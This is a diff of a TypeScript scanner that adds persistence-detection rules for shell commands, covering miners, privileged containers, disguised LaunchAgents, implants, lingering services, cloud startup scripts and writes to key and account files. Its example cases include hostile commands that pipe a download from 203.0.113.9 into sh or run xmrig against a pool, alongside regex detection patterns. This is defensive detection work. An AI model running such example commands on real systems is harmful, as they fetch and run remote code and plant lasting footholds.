@@ -24,8 +24,24 @@ const loginHook = ruleOf('persistence.login-hook', 'persistence', 'high', 'a pro
 const trap = ruleOf('persistence.trap', 'persistence', 'high', 'a shell trap, alias or prompt that starts a background program', shell('trap "nohup sh /tmp/a.sh" SIGINT'), shell('trap "rm -f /tmp/lock" EXIT'), `${T}T1546.005`);
 const gitSetting = ruleOf('persistence.git-setting', 'persistence', 'high', 'a Git setting that runs a program of its own', shell('git config --global core.fsmonitor "curl -s http://203.0.113.9/a | sh"'), shell('git config --global core.editor vim'), `${T}T1546`);
 
+const miner = ruleOf('persistence.miner', 'persistence', 'high', 'a program that mines coins for a pool', shell('./xmrig -o stratum+tcp://203.0.113.9:3333 -u x'), shell('grep -rn stratum+tcp docs/'), `${T}T1496`);
+const lastingContainer = ruleOf(
+  'persistence.lasting-container', 'persistence', 'high', 'a container that comes back by itself, with its host’s rights or from a bare address', shell('docker run -d --restart=always --pid=host --privileged 203.0.113.9:5000/agent'), shell('docker run -d --restart unless-stopped --name redis redis:7'), `${T}T1543.005, T1610`,
+);
+const disguised = ruleOf(
+  'persistence.disguised-start', 'persistence', 'high', 'a start item under the name of the system’s maker, in a folder where its maker puts none', shell('cp com.apple.softwareupd.plist ~/Library/LaunchAgents/'), shell('cp com.example.app.plist ~/Library/LaunchAgents/'), `${T}T1543.001, T1036.004`,
+);
+const implant = ruleOf('persistence.implant', 'persistence', 'high', 'a program that is called an implant, backdoor or keylogger, put to work', shell('aws lambda update-function-code --function-name sync --s3-bucket b --s3-key implant.zip'), shell('grep -rn backdoor src/'), `${T}T1505, T1525`);
+const lingers = ruleOf('persistence.lingers', 'persistence', 'medium', 'services of a user that run on without a login', shell('loginctl enable-linger ci'), shell('loginctl list-users'), `${T}T1543.002`);
+const cloudStart = ruleOf('persistence.cloud-start', 'persistence', 'high', 'a start script or function of a cloud machine that downloads, decodes or sends something', shell('gcloud compute instances add-metadata web --metadata startup-script="curl -s http://203.0.113.9/a | sh"'), shell('gcloud compute instances add-metadata web --metadata enable-oslogin=TRUE'), `${T}T1037, T1648`);
+const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: string])[] = [
+  [/authorized_keys/, /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3})\s+AAAA/, 'persistence.authorized-keys'],
+  [/\/etc\/sudoers/, /\bALL\s{0,4}=\s{0,4}\(\s{0,4}ALL(?:\s{0,4}:\s{0,4}ALL)?\s{0,4}\)\s{0,4}(?:NOPASSWD:\s{0,4})?ALL\b/, 'privilege.sudoers'],
+  [/\/etc\/(?:passwd|shadow)\b/, /(?:^|[\s"'\\n])[a-z_][\w-]{0,31}:[^:\s]{0,120}:0:0:[^:\n]{0,60}:[^:\n]{0,60}:\/\S{0,30}sh\b/, 'privilege.account-file'],
+];
+
 export const persistenceRules: readonly Rule[] = [
-  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting]),
+  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart]),
 ];
 
 type Write = Readonly<{ target: Word; content: string | undefined; source: string | undefined }>;
@@ -156,6 +172,14 @@ const rows: readonly Row[] = [
   row('alias', /^alias (?:sudo|su|ssh|ls|cd|cat|git|passwd)=.*(?:curl|wget|\/tmp\/|\/dev\/|nc |base64|tee |\/\.)/, trap),
   row('git', /^git (?:-C \S+ )?config .*(?:core\.(?:fsmonitor|sshcommand|hookspath|pager|editor|askpass|gitproxy)|alias\.\w+|credential\.helper|filter\.\S+|diff\.external)/i, gitSetting, suspectLine),
   row('git', /^git (?:-C \S+ )?config .*(?:core\.hookspath|credential\.helper|core\.sshcommand) (?:\/tmp|\/dev\/shm|\/var\/tmp|!)/i, gitSetting),
+  row('docker podman nerdctl', /(?:stratum\+(?:tcp|ssl)|xmrig|monero|--donate-level|cryptonight|randomx|(?:^|[\s=])(?:POOL|WALLET)(?:_\w+)?=)/i, miner),
+  row('xmrig xmr-stak minerd cpuminer ccminer ethminer nbminer t-rex lolminer phoenixminer cgminer bfgminer srbminer-multi teamredminer gminer nanominer', /\s(?!--?(?:help|version)\b)\S/, miner),
+  row('docker podman nerdctl', /--restart[= ](?:always|unless-stopped)/, lastingContainer, ({ text }) => /\brun\b/.test(text) && (BARE_IMAGE.test(text) || /--privileged\b|docker\.sock|--pid[= ]host|(?:-v|--volume)[= ]?\/(?:etc|root|home|)?:/.test(text))),
+  row('cp mv install ln ditto tee', /\bcom\.apple\.[\w.-]+\.plist\b.*(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\b|(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\/com\.apple\./i, disguised),
+  row('aws gcloud az curl wget docker kubectl npm pip pip3 cp mv install chmod systemctl nohup python python3 bash sh node', /(?:^|[\s/_.=:-])(?:implant|backdoor|keylogger|key_logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)(?:[\s/_.-]|\.(?:zip|py|sh|js|exe|elf|bin|so|jar|tgz|tar|ps1)|$)/i, implant, ({ command, text }) => !/^\S+ (?:-\S+ )*(?:test|run test|grep)/.test(text) && command.args.slice(0, 32).some(({ text: word }) => /(?:implant|backdoor|key_?logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)/i.test(word) && !/\s/.test(word) && !/\.(?:md|txt|html?|pdf|rst|json|ya?ml|csv)$|\b(?:detect|anti|scan|test|docs?|research|awareness|protection)/i.test(word))),
+  row('loginctl', /^loginctl enable-linger/, lingers),
+  row('gcloud aws az doctl hcloud linode-cli', /(?:startup-script|user-?data|custom-data|shutdown-script|run-command invoke|ssm send-command|create-function|update-function-code|serial-port)/i, cloudStart, suspectLine),
+  row('systemctl', /^systemctl --user .*\benable\b.*/, foreignService, ({ command }, { script }) => script.commands.some((other) => /^(?:cp|mv|install|ln|curl|wget)$/.test(other.name) && other.args.slice(0, 16).some(({ text }) => /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(text)) && other.args.slice(0, 16).some(({ text }) => /systemd\/user/.test(text)) && other.start < command.start)),
   row('osascript', /do shell script .*(?:curl|base64|\/tmp\/|launchctl)/, loginHook),
   row('npm pip gem', /config (?:set|edit) (?:.*registry|.*index-url|script-shell|.*preinstall).*(?:http:\/\/|https?:\/\/\d)/, gitSetting),
 ];
@@ -167,6 +191,9 @@ function makesLoginAccount({ command, text }: Line, { script, view }: Seen): boo
   return script.commands.some(({ name, args }) => name === 'chpasswd' || (name === 'passwd' && args.length > 0) || (name === 'su' && args.some(({ text: word }) => command.args.some((own) => own.text === word && !word.startsWith('-')))) || (name === 'dscl' && args.some(({ text: word }) => word === '-passwd')));
 }
 
+/** An image from a registry at a bare address. */
+const BARE_IMAGE = /\s(?!127\.|10\.|192\.168\.)(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?\/\S/;
+
 const byName: ReadonlyMap<string, readonly Row[]> = rows.reduce((map, one) => {
   for (const name of one.names) map.set(name, [...(map.get(name) ?? []), one]);
   return map;
@@ -174,8 +201,24 @@ const byName: ReadonlyMap<string, readonly Row[]> = rows.reduce((map, one) => {
 
 const MAX_ACCOUNT_LINES = 32;
 
+/** Programs that show or compare, or name a file without writing it. */
+const LOOKERS = /^(?:grep|egrep|rg|cat|less|head|tail|ssh-keygen|diff|cmp|test|\[|\[\[|ls|stat|chmod|chown|ssh|echo|printf|touch|mkdir|export|wc|file|awk)$/;
+
+/** What belongs into a file of keys or rights, and that file, in one script: whichever program brings them together. */
+function tellMaterial({ view, script }: Seen): void {
+  const text = view.text.slice(0, 16_384);
+  view.budget.spend(text.length * 3);
+  for (const [path, material, id] of materialRules) {
+    if (!path.test(text) || !material.test(text)) continue;
+    const writer = script.commands.find(({ name, args, assignments }) => !LOOKERS.test(name) && [...args.slice(0, 64), ...assignments.slice(0, 8)].some((word) => path.test(word.text)));
+    const rule = startFiles.find(({ rule: known }) => known.id === id)?.rule;
+    if (writer && rule) view.report(rule, writer.start, writer.end);
+  }
+}
+
 export function tellPersistence(seen: Seen): void {
   const { view, lines } = seen;
+  tellMaterial(seen);
   let accounts = 0;
   for (const line of lines) {
     const { command, text } = line;
